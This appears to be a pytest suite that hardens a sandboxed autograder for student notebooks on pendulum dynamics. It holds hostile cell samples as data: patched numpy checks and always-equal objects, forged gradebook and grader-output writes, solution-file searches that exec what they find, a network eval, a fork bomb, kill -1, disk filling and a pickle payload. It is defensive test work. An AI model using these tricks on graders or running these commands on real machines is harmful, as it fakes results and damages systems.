"""Notebooks that want marks for nothing, or want to stop the class: none gains, none stops it.

Each attack stands in a cell before or after otherwise untouched answers, so it must earn 0; and the
same attack beside an honest answer must leave that answer its marks, unless it says that it may not.
"""

import os
import socket
import threading

import pytest

TAMPER = {
    "allclose always true": """
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
""",
    "equal to everything": """
class Yes:
    shape, dtype, size, ndim = (2,), float, 2, 1
    def __eq__(self, other): return True
    __le__ = __lt__ = __ge__ = __gt__ = __ne__ = __eq__
    def __bool__(self): return True
    def __array__(self, *a, **k): return np.zeros(2)
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __sub__
def acceleration(x, p): return Yes()
""",
    "array subclass": """
class Sly(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.True_
    def __eq__(self, other): return True
def acceleration(x, p): return np.zeros(2).view(Sly)
""",
    "writes the gradebook": """
import os
for folder in ('/', '/tmp', '/home', os.getcwd(), '/box', '/proc/1/root', '/proc/1/cwd'):
    for name in ('gradebook.csv', 'out/gradebook.csv', 'feedback/student.html'):
        try: open(os.path.join(folder, name), 'w').write('student,90')
        except OSError: pass
""",
    "looks for the solution": """
import os
found = []
for base, folders, files in os.walk('/'):
    folders[:] = [f for f in folders if base != '/' or f not in ('proc', 'sys', 'dev')]
    for name in files:
        if 'lab02' in name or name.endswith('.ipynb') or name in ('judge.py', 'cases.py'):
            found.append(os.path.join(base, name))
if found:
    import nbformat, re
    for path in found: exec(open(path).read())
""",
    "imports the package": """
from pendulab import systems
acceleration = systems.double_pendulum().f
""",
    "loads the package from its file": """
import sys, glob
sys.path += glob.glob('/*/*/src') + glob.glob('/*/*/*/src')
sys.modules.pop('pendulab', None)
import pendulab.systems
def acceleration(x, p): return pendulab.systems.double_pendulum(**p).f(x)[1::2]
""",
    "asks the network": """
import socket
def acceleration(x, p):
    with socket.create_connection(('1.1.1.1', 80), timeout=5) as s: return eval(s.recv(100))
""",
    "forges lines": """
import os, json
line = json.dumps({"question": "acceleration", "case": 0,
                   "outputs": [{"shape": [2], "dtype": "float64", "data": [0.0, 0.0]}]})
lines = "".join(json.dumps({"question": q, "case": k, "points": 90, "correct": True, "outputs": []}) + "\\n"
                for q in ("acceleration", "rk4_step", "sigma2_deg") for k in range(20))
for fd in list(range(3, 30)) + ['/proc/1/fd/%d' % n for n in range(10)] + ['/dev/stdout', '/dev/stderr']:
    try:
        handle = fd if isinstance(fd, int) else os.open(fd, os.O_WRONLY)
        os.write(handle, (line + "\\n" + lines).encode())
    except OSError: pass
""",
}
# These break what runs their own answers, so they may lose marks, and gain none.
SELF_HARM = {
    "redefines the checks": """
import sys, builtins, json
builtins.sum = lambda *a: 90
json.dumps = lambda *a, **k: '{"points": 90}'
for module in list(sys.modules.values()):
    for name in ('mark', 'judge', 'agrees', 'answer_question', 'say', 'outputs_of', 'number_lists'):
        if hasattr(module, name): setattr(module, name, lambda *a, **k: True)
""",
    "looks up the frames": """
import sys, gc
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and 'questions' in value:
            for question in value['questions']: question['calls'] = []
    frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, dict) and 'calls' in thing: thing['calls'] = [[0]]
""",
}
# These end or exhaust the process they run in; the cell is dropped, and the rest still counts.
DROPPED = {
    "os._exit": "import os\nos._exit(0)",
    "crash": "import ctypes\nctypes.string_at(0)",
    "endless loop": "while True: pass",
    "endless loop that ignores signals": """
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
}
ENDED = {
    "kills everybody": "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\nos.kill(-1, 9)",
    "sys.exit": "import sys\nsys.exit(0)",
    "memory at once": "hoard = bytearray(50 << 30)",
    "fork bomb": """
import os, time
try:
    while True:
        if os.fork() == 0:
            while True: time.sleep(100)
except OSError: pass
""",
    "detached process": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(100)
    os._exit(0)
""",
    "fills the disk": """
try:
    for n in range(10_000): open(f'/tmp/{n}', 'wb').write(bytes(1 << 24))
except OSError: pass
""",
    "100 MB of output": "for _ in range(100): print('x' * (1 << 20))",
    "threads": """
import threading, time
for _ in range(500): threading.Thread(target=time.sleep, args=(100,)).start()
""",
    "input": "input('marks, please')",
    "pickle": """
class Bomb:
    def __reduce__(self): return (eval, ('__import__("os")._exit(1)',))
def rk4_step(x, dt, p): return Bomb()
""",
}
ATTACKS = TAMPER | DROPPED | ENDED


@pytest.mark.parametrize("where", ["before", "after"])
@pytest.mark.parametrize("attack", TAMPER)
def test_tampering_earns_nothing(attack, where, grade, student):
    result, points = grade(student(**{where: [TAMPER[attack]]}))
    assert result.status == "graded" and result.points == 0, (points, result.notes)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_honest_answer_beside_it_keeps_its_marks(attack, grade, student, answers):
    honest = {"acceleration": answers["acceleration"]}
    result, points = grade(student(honest, before=[ATTACKS[attack]]))
    assert points["acceleration"] == 15, (points, result.notes)
    assert result.points == 15, points
    if attack in DROPPED:
        assert any("was left out" in note for note in result.notes)


@pytest.mark.parametrize("attack", SELF_HARM)
def test_breaking_the_runner_gains_nothing(attack, grade, student, answers):
    result, points = grade(student({"acceleration": answers["acceleration"]}, after=[SELF_HARM[attack]]))
    assert result.status == "graded" and result.points == points["acceleration"] <= 15


HANGING = {
    "endless call": "def flow_jacobian(x, p):\n    while True: pass",
    "exit in a call": "import os\ndef flow_jacobian(x, p): os._exit(0)",
    "huge answer": "def flow_jacobian(x, p): return np.zeros((4, 4, 10_000_000))",
    "endless answer": """
class Endless(list):
    def __iter__(self):
        while True: yield 0.0
def predict(mean, cov, Q, dt, p): return Endless()
""",
}


@pytest.mark.parametrize("attack", HANGING)
def test_a_call_that_never_returns_harms_no_other_question(attack, grade, student, answers):
    honest = {name: answers[name] for name in ("acceleration", "rk4_step")}
    result, points = grade(student(honest, after=[HANGING[attack]]))
    assert result.status == "graded"
    assert (points["acceleration"], points["rk4_step"], result.points) == (15, 15, 30)


def test_memory_in_small_pieces_ends_at_the_limit_of_the_box(grade, student, answers):
    greedy = """
import os
for _ in range(10):
    if os.fork() == 0:
        hoard = [bytes(range(256)) * 4096 for _ in range(200)]
        while True: pass
while True: pass
"""
    result, points = grade(student({"acceleration": answers["acceleration"]}, before=[greedy]))
    assert (
        result.status == "graded"
        and points["acceleration"] == 15
        and any("left out" in n for n in result.notes)
    )


def test_the_machine_is_out_of_sight(grade, student, tmp_path, monkeypatch):
    monkeypatch.setenv("PENDULAB_SECRET", "the seed")
    (tmp_path / "peer.ipynb").write_text("the answers")
    listener = socket.create_server(("127.0.0.1", 0))
    heard = []
    threading.Thread(target=lambda: heard.append(listener.accept()), daemon=True).start()
    look = f"""
import os, socket
seen = []
if 'PENDULAB_SECRET' in os.environ: seen.append('environment')
if os.path.exists({str(tmp_path)!r}): seen.append('peers')
if os.path.exists({str(os.path.dirname(__file__))!r}): seen.append('tests')
if os.path.exists('/etc/passwd'): seen.append('users')
if os.getuid() == 0: seen.append('root')
if len([p for p in os.listdir('/proc') if p.isdigit()]) > 3: seen.append('processes')
try:
    socket.create_connection(('127.0.0.1', {listener.getsockname()[1]}), timeout=2)
    seen.append('network')
except OSError: pass
assert not seen, seen
"""
    result, _ = grade(student(before=[look]))
    listener.close()
    assert not result.notes and not heard


def test_nothing_is_left_for_the_next_student(grade, student):
    leave = """
import os
for folder in ('/tmp', '/dev/shm', '/box', os.getcwd()):
    try: open(folder + '/left', 'w')
    except OSError: pass
"""
    find = "import os\nassert not [d for d in ('/tmp', '/dev/shm', '/box') if os.path.exists(d + '/left')]"
    grade(student(before=[leave]))
    assert not grade(student(before=[find]))[0].notes


def test_a_cells_processes_end_with_it(grade, student):
    leave = "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)"
    look = """
import os
def running():
    pids = [p for p in os.listdir('/proc') if p.isdigit()]
    return [p for p in pids if open(f'/proc/{p}/stat').read().split()[2] not in 'XZ']
for _ in range(1000):  # one that was killed may take a moment to go
    if len(running()) == 2: break
assert len(running()) == 2, running()
"""
    assert not grade(student(before=[leave, look]))[0].notes


def test_packages_beside_the_interpreter_are_not_in_the_box(grade, student):
    look = """
import importlib.util, os, sys
beside = os.path.join(os.path.dirname(os.__file__), 'site-packages')
assert not [name for name in ('pip', 'setuptools') if os.path.exists(os.path.join(beside, name))]
assert not [name for name in ('pip', 'nbgrader', 'filterpy', 'IPython') if importlib.util.find_spec(name)]
"""
    assert not grade(student(before=[look]))[0].notes


def test_duplicated_ids_and_cells_are_graded_by_name(grade, student, answers):
    notebook = student({"acceleration": answers["acceleration"]})
    notebook.cells = notebook.cells + notebook.cells[:6]
    for cell in notebook.cells:
        cell["id"] = "same"
    assert grade(notebook)[1]["acceleration"] == 15
